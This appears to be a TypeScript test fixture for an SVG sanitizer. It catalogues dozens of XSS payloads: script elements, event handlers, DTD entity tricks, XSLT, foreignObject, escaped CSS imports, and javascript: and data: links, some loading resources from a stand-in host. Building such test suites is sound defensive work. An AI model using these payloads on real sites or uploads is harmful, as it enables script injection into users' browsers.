const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"';

/** The other host in the attacks. */
export const ELSEWHERE = "http://elsewhere.test";

const drawing = (content: string): string => `<svg ${SVG}>${content}</svg>`;
const XHTML = "http://www.w3.org/1999/xhtml";

/** SVGs that run `alert(1)` or load something from elsewhere when opened, by attack. */
export const ATTACKS: Readonly<Record<string, string>> = {
  script: drawing("<script>alert(1)</script>"),
  "script in CDATA": drawing("<script><![CDATA[alert(1)]]></script>"),
  "script with an address": drawing(`<script href="data:text/javascript,alert(1)"/>`),
  "script with XLink": drawing(`<script xlink:href="${ELSEWHERE}/a.js"/>`),
  "script with another prefix": `<svg ${SVG} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>`,
  "script with a prefixed root": `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
  "script as XHTML": drawing(`<script xmlns="${XHTML}">alert(1)</script>`),
  "script as XHTML with a prefix": drawing(`<h:script xmlns:h="${XHTML}">alert(1)</h:script>`),
  "script in unknown data": drawing(
    `<x xmlns="urn:x"><script xmlns="http://www.w3.org/2000/svg">alert(1)</script></x>`,
  ),
  "script in metadata": drawing("<metadata><script>alert(1)</script></metadata>"),
  "script in defs": drawing("<defs><script>alert(1)</script></defs>"),
  "load handler": `<svg ${SVG} onload="alert(1)"></svg>`,
  "handler with uppercase in an element": drawing('<image href="x" onerror="alert(1)"/>'),
  "handler with a character reference": `<svg ${SVG} onload="&#97;lert(1)"></svg>`,
  "handler with line breaks": `<svg ${SVG}\nonload\n=\n"alert(1)"></svg>`,
  "handler on an animation": drawing('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  "handler set by an animation": drawing('<g><set attributeName="onload" to="alert(1)"/></g>'),
  "focus handler": drawing('<a href="#" onfocus="alert(1)" id="x" tabindex="1"><text>x</text></a>'),
  "handler from a declared attribute": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg ${SVG}></svg>`,
  "script from an entity": `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>">]>${drawing("&x;")}`,
  "script from an entity of entities": `<!DOCTYPE svg [<!ENTITY a "alert(1)"><!ENTITY x "<script>&a;</script>">]>${drawing("&x;")}`,
  "handler from an entity": `<!DOCTYPE svg [<!ENTITY x "alert(1)">]><svg ${SVG} onload="&x;"></svg>`,
  "namespace from an entity": `<!DOCTYPE svg [<!ENTITY h "${XHTML}">]>${drawing('<h:script xmlns:h="&h;">alert(1)</h:script>')}`,
  "document type with a hidden end": `<!DOCTYPE svg [<!-- ' ]> --><!ENTITY x "y">]>${drawing("<script>alert(1)</script>")}`,
  "foreign object": drawing(
    `<foreignObject width="9" height="9"><body xmlns="${XHTML}" onload="alert(1)"/></foreignObject>`,
  ),
  "frame in a foreign object": drawing(
    `<foreignObject width="9" height="9"><iframe xmlns="${XHTML}" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"/></foreignObject>`,
  ),
  "HTML image": drawing(`<img xmlns="${XHTML}" src="x:" onerror="alert(1)"/>`),
  "HTML style sheet": drawing(`<link xmlns="${XHTML}" rel="stylesheet" href="${ELSEWHERE}/a.css"/>`),
  "style sheet instruction": `<?xml-stylesheet href="${ELSEWHERE}/a.css"?>${drawing("<rect/>")}`,
  "transformation instruction": `<?xml-stylesheet type="text/xsl" href="${ELSEWHERE}/a.xsl"?>${drawing("<rect/>")}`,
  "transformation in the document": `<?xml-stylesheet type="text/xsl" href="#t"?><svg ${SVG}><xsl:stylesheet id="t" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="${XHTML}">alert(1)</script></xsl:template></xsl:stylesheet></svg>`,
  "import in a style": drawing(`<style>@import "${ELSEWHERE}/a.css";</style>`),
  "import with an escape": drawing(`<style>@im\\70ort "${ELSEWHERE}/a.css";</style>`),
  "import in CDATA": drawing(`<style><![CDATA[@import url(${ELSEWHERE}/a.css);]]></style>`),
  "font from another host": drawing(
    `<style>@font-face{font-family:f;src:url(${ELSEWHERE}/f.woff2)} text{font-family:f}</style><text y="20">x</text>`,
  ),
  "image from another host": drawing(`<image width="9" height="9" href="${ELSEWHERE}/a.png"/>`),
  "image without a scheme": drawing(`<image width="9" height="9" href="//elsewhere.test/a.png"/>`),
  "image with XLink": drawing(`<image width="9" height="9" xlink:href="${ELSEWHERE}/a.png"/>`),
  "image in a filter": drawing(
    `<filter id="f"><feImage href="${ELSEWHERE}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  "use from another host": drawing(`<use href="${ELSEWHERE}/a.svg#x"/>`),
  "filter from another host": drawing(`<rect width="9" height="9" filter="url(${ELSEWHERE}/a.svg#x)"/>`),
  "mask in a style attribute": drawing(`<rect width="9" height="9" style="mask: url('${ELSEWHERE}/a.svg#x')"/>`),
  "background with an escape": `<svg ${SVG} style="background: u\\72l(${ELSEWHERE}/a.png)"></svg>`,
  "image set": `<svg ${SVG} style="background: image-set('${ELSEWHERE}/a.png' 1x)"></svg>`,
  "base address": `<svg ${SVG} xml:base="${ELSEWHERE}/"><image width="9" height="9" href="a.png"/></svg>`,
  "script before an error": `<svg ${SVG}><script>alert(1)</script><g>`,
  "an HTML document": `<html xmlns="${XHTML}"><script>alert(1)</script></html>`,
  "another root": `<x xmlns="urn:x"><script xmlns="${XHTML}">alert(1)</script></x>`,
};

/** Attacks that need a click: what must be removed from the SVG. */
export const LINKS: Readonly<Record<string, string>> = {
  "javascript:": drawing('<a href="javascript:alert(1)"><rect width="40" height="40"/></a>'),
  "javascript: with XLink": drawing('<a xlink:href="javascript:alert(1)"><rect width="40" height="40"/></a>'),
  "javascript: in uppercase, with a tab and references": drawing(
    '<a href=" JAVA&#9;SCRIPT&#58;alert(1)"><rect width="40" height="40"/></a>',
  ),
  "data:": drawing('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><rect width="40" height="40"/></a>'),
  "javascript: from an animation": drawing(
    '<a><set attributeName="href" to="javascript:alert(1)"/><rect width="40" height="40"/></a>',
  ),
  "javascript: from an animation of XLink": drawing(
    '<a><animate attributeName="xlink:href" values="javascript:alert(1)" dur="1s" fill="freeze"/><rect width="40" height="40"/></a>',
  ),
};
